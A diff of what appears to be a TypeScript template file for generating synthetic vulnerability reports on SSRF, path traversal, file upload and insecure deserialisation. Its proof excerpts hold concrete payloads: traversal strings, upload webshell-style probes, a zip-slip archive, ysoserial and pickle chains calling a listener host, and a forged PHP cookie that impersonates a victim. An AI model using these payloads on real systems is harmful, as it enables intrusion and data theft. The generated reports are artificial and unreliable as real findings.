@@ -21,15 +21,16 @@ const serverSideRequest: VulnerabilityClass = {
   ],
   titles: [
     'SSRF in «path» reads internal services through `«parameter»`',
+    'Port scan of the internal network through `«parameter»` (SSRF at «path»)',
+    'SSRF filter of «path» follows redirects to private addresses',
     'Full-read SSRF via `«parameter»`: cloud metadata of «host»',
-    'Blind SSRF with redirect at «path»',
-    'The PDF renderer fetches `«parameter»` from inside (SSRF)',
-    'SSRF filter bypass with DNS rebinding on «path»',
+    'Blind SSRF at «path» with timing and error messages',
+    '`«parameter»` is fetched from inside: redirect reaches the metadata service (SSRF)',
   ],
   summaries: [
     '`«parameter»` is fetched by the server and the answer is shown. Private addresses are refused, but a redirect to one is followed.',
-    'The service behind `«path»` fetches any address in `«parameter»`. I reach the metadata service and `«internalHost»` with it.',
-    'The check of `«parameter»` resolves the name once, the request a second time. A name that changes its answer in between leads inside.',
+    'The service behind `«path»` fetches any address in `«parameter»`. It does not show the answer, yet error and time tell which ports inside are open; `«internalHost»` can be reached.',
+    'The check of `«parameter»` looks at the first address only. A redirect leads the server of «host» to the metadata service.',
   ],
   steps: [
     [
@@ -39,9 +40,14 @@ const serverSideRequest: VulnerabilityClass = {
       'I asked for the **names** of the roles only, not for credentials.',
     ],
     [
-      'Use `http://«internalIp»:8500/` as `«parameter»`: the error says "connection refused" after 3 ms.',
-      'Use port 9200: the answer is the banner of the search server.',
-      'The difference between the two tells which ports are open.',
+      'Use `http://«internalIp»:22/` as `«parameter»`: the error says "connection refused" after 3 ms.',
+      'Use port 9200: the error quotes the first bytes of the answer.',
+      'The difference tells which ports are open. I tried three.',
+    ],
+    [
+      'Run the script below on a host that «company» can reach.',
+      'Use its address as `«parameter»` in «method» `«path»`.',
+      'The log of «host» (shown to the user under *Details*) has the list of metadata entries.',
     ],
   ],
   proofs: [
@@ -115,19 +121,19 @@ const pathTraversal: VulnerabilityClass = {
   ],
   places: [
     { path: '«api»/files/download', parameter: 'name' },
-    { path: '/static/..%2f..%2f', parameter: 'path' },
+    { path: '/reports/view', parameter: 'template' },
     { path: '«collection»/{id}/attachments', parameter: 'filename' },
     { path: '/i18n/load', parameter: 'locale' },
   ],
   titles: [
-    'Path traversal in «path» reads any file of the server',
-    'Arbitrary file read via `«parameter»` on «host»',
-    'LFI: `«parameter»=....//....//etc/passwd`',
+    'LFI: `«parameter»=....//....//etc/passwd` at «path»',
     'Directory traversal with encoded slashes at «path»',
+    'Path traversal in «path» reads any file of the server',
+    'Arbitrary file read via `«parameter»` on «host»: environment of the process',
   ],
   summaries: [
-    '`«parameter»` is joined to a directory without a check. With `../` I leave it and read files such as `/etc/passwd`.',
-    'The filter takes `../` out once. `....//` becomes `../` by that, so the directory can be left.',
+    'The filter takes `../` out of `«parameter»` once. `....//` becomes `../` by that, so the directory can be left.',
+    '`«parameter»` is decoded twice and joined to a directory. With `..%252f` I leave it and read files such as `/proc/self/environ`.',
   ],
   steps: [
     [
@@ -187,56 +193,76 @@ const fileUpload: VulnerabilityClass = {
     ['Medium', 3],
   ],
   places: [
-    { method: 'POST', path: '«api»/avatar', parameter: 'file', detail: '.phtml' },
-    { method: 'POST', path: '«collection»/{id}/attachments', parameter: 'file', detail: '.svg' },
-    { method: 'POST', path: '«api»/import', parameter: 'archive', detail: '.zip with `../` in its names' },
-    { method: 'PUT', path: '«api»/branding/logo', parameter: 'logo', detail: '.html behind a null byte' },
-  ],
-  titles: [
-    'Unrestricted upload at «path»: «detail» is accepted and executed',
-    'RCE through template upload («detail»)',
-    'Upload filter bypass («detail») on «host»',
-    'File type is decided by the client: «path» takes «detail»',
-  ],
-  summaries: [
-    '`«path»` believes the `Content-Type` of the caller. A file with «detail» is stored and served from the main domain.',
-    'The list of forbidden endings misses «detail». What I uploaded is run by the server when it is opened.',
-  ],
-  steps: [
-    [
-      'Upload any picture and keep the request.',
-      'Change the name to «detail» and the content to the lines below; leave `image/png` as it is.',
-      'Open the address from the answer.',
-      'The output of the code is shown. The file is `«handle»-poc`, please delete it.',
-    ],
-  ],
-  proofs: [
-    [
-      {
-        say: 'Upload:',
-        lang: 'http',
-        code: `«method» «path» HTTP/1.1
+    {
+      method: 'POST',
+      path: '«api»/avatar',
+      parameter: 'file',
+      detail: 'a .phtml file',
+      excerpt: `POST «api»/avatar HTTP/1.1
 Host: «host»
 Cookie: «cookieName»=«session»
 Content-Type: multipart/form-data; boundary=x
 
 --x
-Content-Disposition: form-data; name="«parameter»"; filename="«handle»-poc.phtml"
+Content-Disposition: form-data; name="file"; filename="«handle»-poc.phtml"
 Content-Type: image/png
 
 <?php echo 'poc by «handle»: ' . (7 * 7); ?>
 --x--
 
 HTTP/1.1 201 Created
-{"url":"/uploads/2026/11/«handle»-poc.phtml"}`,
-      },
-      {
-        say: 'And opened:',
-        lang: 'bash',
-        code: '$ curl https://«host»/uploads/2026/11/«handle»-poc.phtml\npoc by «handle»: 49',
-      },
+{"url":"/uploads/2026/11/«handle»-poc.phtml"}
+
+GET /uploads/2026/11/«handle»-poc.phtml   ->   poc by «handle»: 49`,
+    },
+    {
+      method: 'POST',
+      path: '«api»/import',
+      parameter: 'archive',
+      detail: 'an archive with `../` in its names',
+      excerpt: `$ unzip -l «handle».zip
+  Length      Name
+      412     «segment».csv
+       34     ../../../srv/app/templates/«handle».html
+
+POST «api»/import   ->   200 {"imported":2}
+GET /«handle»       ->   200 "49"     # the template {{ 7 * 7 }} was rendered`,
+    },
+    {
+      method: 'PUT',
+      path: '«api»/branding/logo',
+      parameter: 'logo',
+      detail: 'a .jsp behind a picture’s first bytes',
+      excerpt: `PUT «api»/branding/logo HTTP/1.1
+Host: «host»
+Content-Type: image/gif
+X-Filename: logo.gif;.jsp
+
+GIF89a <%= 7 * 7 %>
+
+HTTP/1.1 200 OK
+GET /branding/logo.gif;.jsp   ->   GIF89a 49`,
+    },
+  ],
+  titles: [
+    'Unrestricted upload at «path»: «detail» is executed',
+    'RCE through an upload to «path» («detail»)',
+    'Upload filter of «host» passed by «detail»',
+    '«Detail» as `«parameter»` runs on the server',
+  ],
+  summaries: [
+    '`«path»` believes what the caller says about the file. I uploaded «detail», and the server runs it when it is opened.',
+    'The list of forbidden files misses «detail». What I uploaded as `«parameter»` is executed.',
+  ],
+  steps: [
+    [
+      'Upload something harmless and keep the request.',
+      'Replace `«parameter»` by «detail», see below.',
+      'Open the address. `49` shows that it was executed.',
+      'Please delete my file, its name holds `«handle»`.',
     ],
   ],
+  proofs: [[{ say: 'Upload and result:', lang: 'http', code: '«excerpt»' }]],
   impacts: [
     'Code of the attacker runs on the web server. The next step would be a shell, which I left out.',
     'Stored pages and scripts under the real domain, and from an archive files in places where they do not belong.',
@@ -261,54 +287,68 @@ const deserialisation: VulnerabilityClass = {
     ['High', 3],
   ],
   places: [
-    { method: 'POST', path: '/viewstate', parameter: '__VIEWSTATE', detail: 'a Java object' },
-    { path: '/«segment»/wizard', parameter: 'state', detail: 'a pickled Python object' },
-    { path: '/', parameter: 'remember_me', detail: 'a serialised PHP object' },
-    { method: 'POST', path: '«api»/cache/import', parameter: 'payload', detail: 'a YAML document with tags' },
+    {
+      path: '/«segment»/wizard',
+      parameter: 'state',
+      detail: 'a Java object',
+      excerpt: `# the value, decoded
+00000000  ac ed 00 05 73 72 00 2e  6f 72 67 2e 73 70 72 69  |....sr..org.spri|
+
+$ java -jar ysoserial.jar URLDNS https://«listener» | base64 -w0 > chain
+$ curl -s -o /dev/null -w '%{http_code}\\n' 'https://«host»«path»' --data-urlencode state@chain
+500
+# listener: 11:20:04 DNS A «listener» from «ip»`,
+    },
+    {
+      path: '/«segment»/resume',
+      parameter: 'draft',
+      detail: 'a pickled Python object',
+      excerpt: `$ python3 - <<'END'
+import base64, pickle, socket
+class Lookup:
+    def __reduce__(self):
+        return (socket.gethostbyname, ("«listener»",))
+print(base64.b64encode(pickle.dumps(Lookup())).decode())
+END
+gASVMAAAAAAAAACMB19zb2NrZXSUjA1nZXRob3N0YnluYW1l…
+
+# sent as draft=…; listener: 11:20:04 DNS A «listener» from «ip»`,
+    },
+    {
+      path: '/',
+      parameter: 'remember_me',
+      detail: 'a serialised PHP object',
+      excerpt: `# cookie as it comes: O:8:"Remember":2:{s:4:"user";i:«meId»;s:4:"hash";N;}
+# cookie as I send it:
+$ curl -s -H 'Cookie: remember_me=O%3A8%3A%22Remember%22%3A1%3A%7Bs%3A4%3A%22user%22%3Bi%3A«victimId»%3B%7D' https://«host»/me
+{"id":«victimId»,"email":"«victim»"}`,
+    },
   ],
   titles: [
     'Insecure deserialisation of `«parameter»` («detail») on «host»',
-    'RCE: `«parameter»` at «path» is «detail» without a signature',
-    'Unsigned `«parameter»` is deserialised',
+    '`«parameter»` at «path» is «detail» without a signature',
+    'Unsigned `«parameter»` is deserialised: «detail»',
+    'Foreign objects through `«parameter»` («detail»)',
   ],
   summaries: [
-    '`«parameter»` carries «detail» that the server turns back into objects without checking where it comes from. A gadget chain from the class path runs code.',
-    'By changing `«parameter»`, which is «detail», I make the server resolve a name of my choice. That proves that foreign objects are built.',
+    '`«parameter»` carries «detail» that the server turns back into objects without checking where it comes from.',
+    'By changing `«parameter»`, which is «detail», I make the server build an object of my choice. I chose a harmless one.',
   ],
   steps: [
     [
-      'Decode `«parameter»`: the first bytes give away what it is.',
-      'Build a chain that does one DNS lookup and nothing else.',
-      'Send it. The lookup arrives.',
+      'Decode `«parameter»`: the first characters give away what it is.',
+      'Build a value that does one harmless thing.',
+      'Send it to `«path»` and watch.',
     ],
   ],
-  proofs: [
-    [
-      {
-        say: 'Chain for the lookup:',
-        lang: 'bash',
-        code: `$ java -jar ysoserial.jar URLDNS https://«listener» | base64 -w0 > chain
-$ curl -s -o /dev/null -w '%{http_code}\\n' 'https://«host»«path»' --data-urlencode «parameter»@chain
-500
-# listener: 11:20:04 DNS A «listener» from «ip»`,
-      },
-    ],
-    [
-      {
-        say: 'The value as it comes from the server, decoded:',
-        lang: 'text',
-        code: `00000000  ac ed 00 05 73 72 00 2e  6f 72 67 2e 73 70 72 69  |....sr..org.spri|
-00000010  6e 67 66 72 61 6d 65 77  6f 72 6b 2e 77 65 62 66  |ngframework.webf|`,
-      },
-    ],
-  ],
+  proofs: [[{ say: 'From the value to the effect:', lang: 'bash', code: '«excerpt»' }]],
   impacts: [
     'Code execution on the application server with the rights of the service.',
     'Control over the objects of the application, and with the libraries present over the machine.',
   ],
   fixes: ['Sign the value, or better: keep the state on the server and give out an id.'],
   notes: [
-    'URLDNS callback reproduced. Commons Collections is on the class path in a dangerous version. Critical.',
+    'Reproduced with the harmless value. There are classes within reach that do worse, so Critical stays.',
   ],
 }
 
